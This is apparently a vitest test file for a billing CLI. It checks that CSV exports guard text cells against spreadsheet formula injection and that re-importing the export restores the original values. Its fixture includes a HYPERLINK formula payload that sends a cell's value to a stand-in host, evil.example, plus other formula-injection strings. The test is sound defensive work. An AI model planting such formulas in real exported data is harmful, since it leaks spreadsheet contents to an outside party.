// CSV formula injection (docs/formats.md, "CSV"): in every CSV pops writes, a text
// cell that begins with =, +, -, @, tab or carriage return gets a leading `'`;
// money and number columns never do; JSON is unchanged; and `groups apply` takes
// the `'` off again, so export → apply still changes nothing.
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeStore, pops, storeDigest, tempDir } from '../helpers/cli.js';
import { account, baseDump, encounter, line } from '../helpers/dumps.js';
import { guardCsvCell, unguardCsvCell } from '../../src/base/csv-cell.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

/** 300 accounts (more than one streamed batch of rows); the hostile ones come last. */
function hostileDump(): Record<string, any> {
  const accounts = Array.from({ length: 296 }, (_, i) => account(`A${String(i).padStart(4, '0')}`));
  accounts.push(
    account('Z001', {
      guarantor: { firstName: 'x', lastName: HOSTILE },
      // A credit: a negative balance, whose money cell must stay -12.00.
      encounters: [encounter({ lines: [line(1, { billed: '10.00', patientPaid: '22.00' })] })],
    }),
    account('Z002', {
      guarantor: { firstName: 'Ann', lastName: '+1+2' },
      encounters: [encounter({ status: 'collections', collectionAgency: 'EVIL', lines: [line(1, { billed: '50.00' })] })],
    }),
    account('Z003', { guarantor: { firstName: 'Bob', lastName: '@SUM(1+1)' } }),
    account('-Z004', { guarantor: { firstName: 'Cy', lastName: "'=already quoted" } }),
  );
  return baseDump({
    groups: [
      { name: 'Lakeside Pediatrics', showCollections: true, footerPhone: '(312) 555-0142' },
      { name: '=Evil Group', footerText: '-- Closed Mondays --' },
      { name: '@Home Clinic', footerText: '-' },
      { name: 'Quote Clinic', footerText: "'=x" },
    ],
    collectionAgencies: [
      { code: 'SUMMIT', name: 'Summit Recovery Services' },
      { code: 'EVIL', name: '-Evil Agency' },
    ],
    accounts,
  });
}

let db: string;
beforeAll(async () => {
  db = await makeStore({ dump: hostileDump() });
});

async function csv(args: string[]): Promise<Record<string, string>[]> {
  const result = await pops(['--db', db, ...args]);
  expect(result.code, result.stderr).toBe(0);
  return parseCsv(result.stdout, { columns: true }) as Record<string, string>[];
}

describe('the rule', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=x", "''=x"],
    ["'x", "'x"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is written %j and read back as it was', (text, cell) => {
    expect(guardCsvCell(text)).toBe(cell);
    expect(unguardCsvCell(cell)).toBe(text);
  });
});

describe('accounts list --csv', () => {
  let rows: Record<string, string>[];
  beforeAll(async () => {
    rows = await csv(['accounts', 'list', '--all', '--csv']);
  });
  const row = (accountNumber: string) => rows.find((r) => r.accountNumber === accountNumber)!;

  it('prefixes text cells that a spreadsheet would run as a formula', () => {
    expect(row('Z001').guarantor).toBe(`'${HOSTILE}, x`);
    expect(row('Z002').guarantor).toBe("'+1+2, Ann");
    expect(row('Z002').collectionAgencies).toBe("'-Evil Agency");
    expect(row('Z003').guarantor).toBe("'@SUM(1+1), Bob");
    expect(row('Z003').group).toBe('Lakeside Pediatrics');
    expect(rows.some((r) => r.accountNumber === '-Z004')).toBe(false);
    expect(row("'-Z004").guarantor).toBe("''=already quoted, Cy");
  });

  it('leaves money and number columns as they are', () => {
    expect(row('Z001')).toMatchObject({ nonCollectionBalance: '-12.00', totalBalance: '-12.00', amountDue: '0.00', encountersInCollections: '0' });
    expect(row('Z002')).toMatchObject({ collectionBalance: '50.00', encountersInCollections: '1' });
  });

  it('leaves JSON as it is', async () => {
    const result = await pops(['--db', db, 'accounts', 'list', '--all', '--json']);
    const json = JSON.parse(result.stdout) as { accountNumber: string; guarantor: string; collectionAgencies: string[] }[];
    expect(json.find((a) => a.accountNumber === 'Z001')!.guarantor).toBe(`${HOSTILE}, x`);
    expect(json.find((a) => a.accountNumber === 'Z002')!.collectionAgencies).toEqual(['-Evil Agency']);
  });
});

describe('groups list --csv', () => {
  it('prefixes names and footer numbers (E.164 begins with +); ids and counts stay numbers', async () => {
    const rows = await csv(['groups', 'list', '--csv']);
    expect(rows.map((r) => r.name)).toEqual(expect.arrayContaining(["'=Evil Group", "'@Home Clinic", 'Lakeside Pediatrics']));
    const lakeside = rows.find((r) => r.name === 'Lakeside Pediatrics')!;
    expect(lakeside.footerPhone).toBe("'+13125550142");
    expect(lakeside.accounts).toBe('300');
    expect(lakeside.id).toMatch(/^\d+$/);
  });
});

describe('audit --csv', () => {
  it('goes through the same writer: group names and values are guarded', async () => {
    const rows = await csv(['audit', '--all', '--csv']);
    expect(rows.map((r) => r.group)).toEqual(expect.arrayContaining(["'=Evil Group", "'@Home Clinic"]));
    expect(rows.map((r) => r.group)).not.toContain('=Evil Group');
  });
});

describe('groups export --format csv → groups apply', () => {
  it('writes guarded names and text, but the clear cell - stays -', async () => {
    const rows = await csv(['groups', 'export', '--format', 'csv']);
    const byName = new Map(rows.map((r) => [r.name, r]));
    expect(byName.get("'=Evil Group")!.footerText).toBe("'-- Closed Mondays --");
    expect(byName.get("'=Evil Group")!.footerPhone).toBe('-');
    expect(byName.get("'@Home Clinic")!.footerText).toBe("'-");
    expect(byName.get('Quote Clinic')!.footerText).toBe("''=x");
    expect(byName.get('Lakeside Pediatrics')!.footerPhone).toBe("'+13125550142");
  });

  it('applying the export changes nothing and writes nothing (a footer text of exactly - included, without a warning)', async () => {
    const copy = await makeStore({ dump: hostileDump() });
    const exported = await pops(['--db', copy, 'groups', 'export', '--format', 'csv']);
    expect(exported.stderr).toBe('');
    const file = path.join(tempDir(), 'groups.csv');
    fs.writeFileSync(file, exported.stdout);
    const before = storeDigest(copy);
    const applied = await pops(['--db', copy, 'groups', 'apply', file]);
    expect(applied.code, applied.stderr).toBe(0);
    expect(applied.stdout).toBe('0 changed, 0 created, 4 unchanged\n');
    expect(storeDigest(copy)).toBe(before);
  });

  it("apply reads one guard off (names and text settings); - still clears, '- is the text -", async () => {
    const copy = await makeStore({ dump: hostileDump() });
    const file = path.join(tempDir(), 'changes.csv');
    fs.writeFileSync(file, "name,footerText,footerPhone\n'=Evil Group,'-,'+1 312 555 0199\n'@Home Clinic,-,\n");
    const applied = await pops(['--db', copy, 'groups', 'apply', file, '--json']);
    expect(applied.code, applied.stderr).toBe(0);
    expect(JSON.parse(applied.stdout).changed).toEqual([
      {
        group: '=Evil Group',
        changes: [
          { field: 'footerPhone', from: null, to: '+13125550199' },
          { field: 'footerText', from: '-- Closed Mondays --', to: '-' },
        ],
      },
      { group: '@Home Clinic', changes: [{ field: 'footerText', from: '-', to: null }] },
    ]);
  });
});
